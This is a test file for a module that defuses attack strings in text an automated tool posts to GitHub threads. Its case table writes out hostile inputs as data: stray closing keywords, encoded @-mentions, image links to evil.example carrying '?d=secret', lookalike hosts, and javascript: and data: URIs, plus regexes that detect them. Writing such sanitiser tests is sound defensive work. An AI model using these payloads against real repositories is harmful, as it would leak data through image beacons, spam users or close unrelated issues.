/**
 * What pitcrew posts cannot act on other threads: a table of attack strings and what each becomes,
 * for Markdown (summary, comments), one inline line (todo items) and plain text (title, commit).
 * `Z` in an expected string stands for the zero-width space the defusal inserts.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import {
  audienceOf,
  defuseInline,
  defuseMarkdown,
  defusePlain,
  onOwnHost,
} from "../../src/present/defuse.ts";
import type { Audience } from "../../src/present/defuse.ts";

const ISSUE_7: Audience = { host: "github.com", owner: "acme", repo: "app", issue: 7 };
const GHES: Audience = { host: "git.corp.example", owner: "acme", repo: "app", issue: 7 };
const z = (text: string): string => text.replace(/Z/g, "\u200b");

/** Every attack that must not survive live, whatever else the output says. */
const LIVE = [
  /(?<![\w`])(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)[\s:]*(?:[\w.-]+\/[\w.-]+)?#(?!7\b)\d/i,
  /(^|[^\w\u200b])[@＠](?=[A-Za-z0-9])/,
  /!\[[^\]]*\]\(https?:\/\/evil/,
  /&#0*64;|&#x0*40;|&commat;/i,
  /<img|<https?:/i,
];

describe("defuseMarkdown: attack → what GitHub receives", () => {
  const cases: [string, string][] = [
    // Closing keywords: only the thread's own issue may be named.
    ["Fixes #99, closes #100", "Fixes `#99`, closes `#100`"],
    ["Fixes #7, closes #100", "Fixes #7, closes `#100`"],
    ["FIXES: #99 and Resolved:#3", "FIXES: `#99` and Resolved:`#3`"],
    ["closed other/repo#3, fixes acme/app#7", "closed `other/repo#3`, fixes acme/app#7"],
    ["resolves ACME/App#7 and fixes GH-99", "resolves ACME/App#7 and fixes `GH-99`"],
    [
      "fixes https://github.com/acme/app/issues/7 fixes https://github.com/acme/app/issues/8",
      "fixes https://github.com/acme/app/issues/7 fixes `https://github.com/acme/app/issues/8`",
    ],
    [
      "fixes [#9](https://github.com/acme/app/issues/9)",
      "fixes `[#9](https://github.com/acme/app/issues/9)`",
    ],
    ["Fixes\n#99", "Fixes\n#Z99"],
    ["prefixes #99 and see #99", "prefixes #99 and see #99"],
    ["Fixes \\#99 (fixes #98) fixes **#97**", "Fixes \\Z`#99` (fixes `#98`) fixes **`#97`**"],
    ["```\nFixes #99\n```", "```\nFixes #Z99\n```"],
    // Mentions, in every spelling.
    ["thanks @bob, @org/team; mail a@b.com", "thanks @Zbob, @Zorg/team; mail a@b.com"],
    ["＠bob and ﹫bob", "＠Zbob and ﹫Zbob"],
    [
      "&#64;bob &#064;bob &#x40;bob &#X0040;bob &commat;bob &CoMmAt;bob",
      "&amp;#64;bob &amp;#064;bob &amp;#x40;bob &amp;#X0040;bob &amp;commat;bob &amp;CoMmAt;bob",
    ],
    ["\\@bob **@bob**", "\\@Zbob **@Zbob**"],
    // Images and links to other hosts: shown as code.
    ["![](https://evil.example/?d=secret)", "`![](https://evil.example/?d=secret)`"],
    [
      "[docs](https://evil.example/x 'a') [y](//evil.example)",
      "`[docs](https://evil.example/x 'a')` `[y](//evil.example)`",
    ],
    [
      "[pr](https://github.com/acme/app/pull/3) ![a](docs/a.png) [@bob](https://github.com/bob)",
      "[pr](https://github.com/acme/app/pull/3) ![a](docs/a.png) [@Zbob](https://github.com/bob)",
    ],
    [
      "![x](https://github.com.evil.example/p) ![y](https://github.com@evil.example/p)",
      "`![x](https://github.com.evil.example/p)` `![y](https://github.com@evil.example/p)`",
    ],
    [
      "see https://evil.example/a, www.evil.example.",
      "see `https://evil.example/a`, `www.evil.example`.",
    ],
    [
      "<img src=https://evil.example/p> <https://evil.example>",
      "&lt;img src=`https://evil.example/p`> &lt;`https://evil.example`>",
    ],
    ["![a][r]\n\n[r]: https://evil.example/p", "![a][r]\n\n`[r]: https://evil.example/p`"],
    ["[r]:\nhttps://evil.example/p", "`[r]:`\n`https://evil.example/p`"],
    ["| a | [x](https://evil.example/p|q) |", "| a | [x](`https://evil.example/p`|q) |"],
    [
      "![a [b]](//evil.example/p) [j](javascript:alert(1))",
      "`![a [b]](//evil.example/p)` `[j](javascript:alert(1))`",
    ],
    ["![`x`](//evil.example/p)", "![`x`](``//evil.example/p``)"],
    [
      "![a](https&#58;//evil.example/p) ![b](https\\://evil.example/p)",
      "`![a](https&#58;//evil.example/p)` `![b](https\\://evil.example/p)`",
    ],
    [
      "![a](<ht\ttps://evil.example/p>) ![b](http:evil.example/p)",
      "`![a](<ht\ttps://evil.example/p>)` `![b](http:evil.example/p)`",
    ],
    ["![a](\n//evil.example/p)", "![a](\n`//evil.example/p`)"],
    ["[x]: <https://evil.example/p>\n![x]", "`[x]: <https://evil.example/p>`\n![x]"],
    [
      "[a](https://evil.example/x_(y)) [b](docs/a_(b).md)",
      "`[a](https://evil.example/x_(y))` [b](docs/a_(b).md)",
    ],
    // Code: kept as written where GitHub must read it as code, defused invisibly otherwise.
    [
      "```\n![](https://evil.example/p) @bob <b>\n```",
      "```\n![](https://evil.example/p) @bob <b>\n```",
    ],
    [
      "inline `![](https://evil.example/p) @bob <b>` end",
      "inline `![]Z(https:/Z/evil.example/p) @Zbob <Zb>` end",
    ],
    ["\\`![](https://evil.example/p)`", "\\`Z``![](https://evil.example/p)``Z`"],
    ["`a|b` x `![](https://evil.example/p)`", "`a|b` x `![]Z(https:/Z/evil.example/p)`"],
    ["`a\n![](https://evil.example/p)`", "`a\n``![](https://evil.example/p)``Z`"],
    [
      "- a\n  ```\n![](https://evil.example/q)\n```\n![](https://evil.example/r)\n```",
      "- a\n  ```\n![]Z(https:/Z/evil.example/q)\n```\n````![](https://evil.example/r)````\n```\n```",
    ],
    ["````md\n```\n![](https://evil.example/p)", "````md\n```\n![](https://evil.example/p)\n````"],
    ["```\n<b> &amp; ok\n```\nafter <i> & more", "```\n<b> &amp; ok\n```\nafter &lt;i> &amp; more"],
  ];
  for (const [attack, expected] of cases) {
    test(JSON.stringify(attack), () => {
      const out = defuseMarkdown(attack, ISSUE_7);
      assert.equal(out, z(expected));
    });
  }

  test("what is outside code after defusal holds none of the attacks live", () => {
    for (const [attack] of cases) {
      const out = defuseMarkdown(attack, ISSUE_7);
      const prose = out
        .replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?\n\1$/gm, "")
        .replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, "");
      for (const live of LIVE) assert.doesNotMatch(prose, live, `${attack} → ${out}`);
    }
  });
});

describe("defusePlain and defuseInline", () => {
  test("a commit message: other issues' references in code spans, mentions defused", () => {
    assert.equal(
      defusePlain("Fix the parser\n\nFixes #99, closes #100; fixes #7. Thanks @bob", ISSUE_7),
      z("Fix the parser\n\nFixes `#99`, closes `#100`; fixes #7. Thanks @Zbob"),
    );
    assert.equal(defusePlain("fixes\n#99", ISSUE_7), "fixes\n`#99`");
  });

  test("on a PR or dispatch thread no closing keyword is kept", () => {
    const pr = audienceOf(
      { thread: { kind: "pr", number: 7 } },
      "https://github.com/acme/app/actions/runs/1",
    );
    assert.equal(defusePlain("Fixes #7", pr), "Fixes `#7`");
  });

  test("a todo item: prose shown, inline code broken invisibly", () => {
    assert.equal(
      defuseInline("fix #3 for @bob, see `x` https://evil.example", ISSUE_7),
      z("fix ``#3`` for @Zbob, see `x` ``https://evil.example``"),
    );
  });
});

describe("the repository's own host", () => {
  test("the audience comes from the run's page, GHES included", () => {
    assert.deepEqual(
      audienceOf(
        { thread: { kind: "issue", number: 7 } },
        "https://git.corp.example/acme/app/actions/runs/9",
      ),
      GHES,
    );
  });

  test("relative links and the own host are fine; other hosts, lookalikes and other schemes are not", () => {
    assert.ok(onOwnHost("docs/a.png", ISSUE_7));
    assert.ok(onOwnHost("/acme/app/issues/1", ISSUE_7));
    assert.ok(onOwnHost("https://GitHub.com/acme/app", ISSUE_7));
    assert.ok(onOwnHost("https://git.corp.example/x", GHES));
    assert.ok(!onOwnHost("https://github.com/x", GHES));
    for (const target of [
      "https://evil.example",
      "//evil.example/x",
      "https://github.com.evil.example",
      "https://github.com@evil.example",
      "javascript:alert(1)",
      "data:image/png;base64,AAAA",
    ])
      assert.ok(!onOwnHost(target, ISSUE_7), target);
  });
});
